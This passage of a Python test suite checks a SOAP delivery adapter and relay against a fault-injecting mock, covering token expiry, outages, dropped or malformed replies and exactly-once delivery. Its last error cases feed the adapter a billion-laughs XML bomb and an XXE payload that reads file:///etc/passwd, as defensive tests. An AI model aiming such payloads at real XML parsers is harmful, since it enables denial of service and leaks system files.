    await live.deliver(ENVELOPE, KEY)
    assert (await held(control))["duplicate_creations"] == 1


async def test_contract_expired_token_is_refreshed_and_reconciled(
    live: SoapAdapter, control: httpx.AsyncClient, mock: tuple[RunningServer, Clock]
) -> None:
    await faults(control, token_ttl_s=60)
    await live.deliver(ENVELOPE, KEY)
    mock[1].now += 61
    other = envelope("320700261121000099999")
    await live.deliver(other, KEY + "-b")
    report = await held(control)
    assert (report["accepted"], report["duplicate_creations"]) == (2, 0)
    bodies = [e["body"] for e in (await control.get("/traffic")).json() if e["method"] == "POST"]
    kinds = ["login" if ":login>" in b else "query" if ":query>" in b else "service" for b in bodies]
    assert kinds == ["login", "service", "service", "login", "query", "service"]


async def test_contract_down_for_a_while(live: SoapAdapter, control: httpx.AsyncClient) -> None:
    await faults(control, down=True)
    for _ in range(2):
        with pytest.raises(RetryableError, match="503"):
            await live.deliver(ENVELOPE, KEY)
    assert (await held(control))["accepted"] == 0
    await faults(control, down=False)
    await live.deliver(ENVELOPE, KEY)
    report = await held(control)
    assert (report["accepted"], report["duplicate_creations"]) == (1, 0)


async def test_contract_dropped_reply_is_reconciled_without_duplicate(
    live: SoapAdapter, control: httpx.AsyncClient
) -> None:
    await live.query_status(ENVELOPE, "warm-up")  # WSDLs and token first, so the drop hits the send itself
    await faults(control, drop_response_rate=1.0)
    with pytest.raises(OutcomeUnknownError):
        await live.deliver(ENVELOPE, KEY)
    assert (await held(control))["accepted"] == 1, "the exchange committed before the connection dropped"
    await faults(control, drop_response_rate=0.0)
    receipt = await redeliver(live, ENVELOPE, KEY)
    assert receipt.replayed, "found by query(sn), not sent again"
    report = await held(control)
    assert (report["accepted"], report["duplicate_creations"]) == (1, 0)


async def test_contract_malformed_reply_is_a_clear_unknown_outcome(
    live: SoapAdapter, control: httpx.AsyncClient
) -> None:
    await live.query_status(ENVELOPE, "warm-up")
    await faults(control, malformed_rate=1.0, seed=3)
    with pytest.raises(OutcomeUnknownError, match="unreadable"):
        await live.deliver(ENVELOPE, KEY)
    await faults(control, malformed_rate=0.0)
    assert (await redeliver(live, ENVELOPE, KEY)).replayed
    report = await held(control)
    assert (report["accepted"], report["duplicate_creations"]) == (1, 0)


async def test_contract_server_fault_then_resend_after_query(live: SoapAdapter, control: httpx.AsyncClient) -> None:
    await live.query_status(ENVELOPE, "warm-up")
    await faults(control, error_rate=1.0)
    with pytest.raises(OutcomeUnknownError, match="Server"):
        await live.deliver(ENVELOPE, KEY)
    await faults(control, error_rate=0.0)
    receipt = await redeliver(live, ENVELOPE, KEY)
    assert not receipt.replayed, "not held, so sent again — with the same Sn"
    report = await held(control)
    assert (report["accepted"], report["duplicate_creations"]) == (1, 0) and report["records"][0]["sns"] == [SN]


async def test_contract_wrong_receiver_is_permanent(
    mock: tuple[RunningServer, Clock], control: httpx.AsyncClient
) -> None:
    a = make_adapter(f"{mock[0].base_url}/soap", receiver="QZJ-999999")
    try:
        with pytest.raises(PermanentError) as info:
            await a.deliver(ENVELOPE, KEY)
    finally:
        await a.aclose()
    assert info.value.code == "2002" and "Receiver" in info.value.reason
    report = await held(control)
    assert (report["accepted"], report["rejected"]) == (0, 1)


async def test_contract_wrong_password(mock: tuple[RunningServer, Clock], control: httpx.AsyncClient) -> None:
    a = make_adapter(f"{mock[0].base_url}/soap", password="wrong")
    try:
        with pytest.raises(RetryableError, match="user/password"):
            await a.deliver(ENVELOPE, KEY)
    finally:
        await a.aclose()
    assert (await held(control))["accepted"] == 0


# -- the relay against the faulty mock: every approval once ---------------------------------------------------
RELAY = {
    "adapter": "soap",
    "concurrency": 4,
    "max_attempts": 50,
    "backoff_initial_s": 0.01,
    "backoff_max_s": 0.05,
    "backoff_jitter_s": 0.0,
    "breaker_failures": 1000,
}


async def expire_tokens_as_records_arrive(clock: Clock, control: httpx.AsyncClient, every: int = 10) -> None:
    """Move the mock's clock past the token lifetime each time ``every`` more records have arrived.

    Tied to progress, not to time: on a busy machine a token still outlives one exchange, and on a fast one the
    tokens still expire during the run.
    """
    jumps = 0
    while True:
        await asyncio.sleep(0.02)
        accepted = (await held(control))["accepted"]
        while jumps < accepted // every:
            jumps += 1
            clock.now += 31


async def test_relay_through_faults_delivers_each_approval_exactly_once(
    tmp_path: Path, live: SoapAdapter, control: httpx.AsyncClient, mock: tuple[RunningServer, Clock]
) -> None:
    store = SQLiteStore(tmp_path / "relay.db", synchronous="NORMAL")
    await store.open()
    envelopes = [envelope(f"3207002611210000{i:05d}") for i in range(30)]
    await faults(control, drop_response_rate=0.25, error_rate=0.15, malformed_rate=0.1, token_ttl_s=30, seed=11)
    try:
        await store.ingest_page("zwfw", envelopes, [], "1", lambda _e: [Route("soap")])
        relay = Relay(
            store, {"soap": Destination("soap", live, DestinationConfig.model_validate(RELAY))}, owner="t", idle_s=0.01
        )
        await relay.recover()
        task = asyncio.create_task(relay.run())
        clock = asyncio.create_task(expire_tokens_as_records_arrive(mock[1], control))
        try:
            async with asyncio.timeout(120):  # a hang guard, not a performance bound
                while await store.open_deliveries():  # noqa: ASYNC110
                    await asyncio.sleep(0.05)
        finally:
            clock.cancel()
            relay.stop()
            await task
        states = (await store.status())["deliveries"]
    finally:
        await store.close()
    report = await held(control)
    traffic = (await control.get("/traffic")).json()
    assert states["delivered"] == 30 and states["dead"] == 0
    assert (report["accepted"], report["duplicate_creations"]) == (30, 0)
    assert {e["fault"] for e in traffic} >= {"drop", "error", "malformed"}, "the faults really fired"
    logins = [e for e in traffic if e["path"].endswith("/auth") and e["method"] == "POST" and not e["fault"]]
    assert len(logins) >= 2, "tokens expired along the way"


# -- the conformance kit ----------------------------------------------------------------------------------------
RESIDENT_ID = "320706199003071237"
MOBILE = "13912345678"


def soap_receiver() -> Receiver:
    """A fresh spyne mock in process; ``inspect`` reads its ``/_mock/records`` report."""
    app = create_app()
    return Receiver(transport=httpx.ASGITransport(app=app), inspect=lambda: app.platforms["soap"].records_report())


def kit_adapter(transport: httpx.AsyncBaseTransport) -> SoapAdapter:
    return SoapAdapter(
        "soap",
        base_url="http://mock/soap",
        user="shenguan",
        password="soap-mock-password",
        service_id=SERVICE_ID,
        receiver=NODE,
        transport=transport,
    )


def is_service_call(request: httpx.Request) -> bool:
    return request.method == "POST" and request.url.path.endswith("/exchange") and soap_action(request) == "service"


def canned(document: str) -> Any:
    return reply(200, content=envelope_with("service", document), headers={"content-type": "text/xml"})


class TestSoapConformance(DestinationConformance):
    adapter_factory = staticmethod(kit_adapter)
    receiver_factory = staticmethod(soap_receiver)
    samples = (
        envelope(),  # a legal person with a mobile number
        envelope(
            "320700261121000099999",
            revision=2,
            commitment=None,
            applicant={
                "kind": "natural",
                "name": "张三",
                "id_type": "resident_id",
                "id_number": RESIDENT_ID,
                "phone": MOBILE,
            },
            certificate={"number": "JY1", "valid_from": "2026-11-20", "long_term": True},
        ),
    )
    decode_native = staticmethod(decode_body)
    target_request = staticmethod(is_service_call)
    # Representative cases only: each runs a fresh mock, and the log check replays every one of them; the respx
    # tests above classify each result code and status one by one.
    error_cases = (
        ErrorCase(
            "result 2003 echoing the 身份证号",
            canned(result("2003", f"证件号码 {RESIDENT_ID} 校验失败", sn="")),
            PermanentError,
        ),
        ErrorCase("result 9001 busy", canned(result("9001", "系统繁忙", sn="")), RetryableError),
        ErrorCase(
            "result 9999",
            canned(result("9999", "系统内部错误", sn="")),
            OutcomeUnknownError,
            why="it may have processed the message",
        ),
        ErrorCase("SOAP server fault", reply(500, content=recorded("fault_server_response.xml")), OutcomeUnknownError),
        ErrorCase("billion laughs reply", canned(inner_bomb()), OutcomeUnknownError),
        ErrorCase("XXE reply", canned(inner_xxe("file:///etc/passwd")), OutcomeUnknownError),
    )
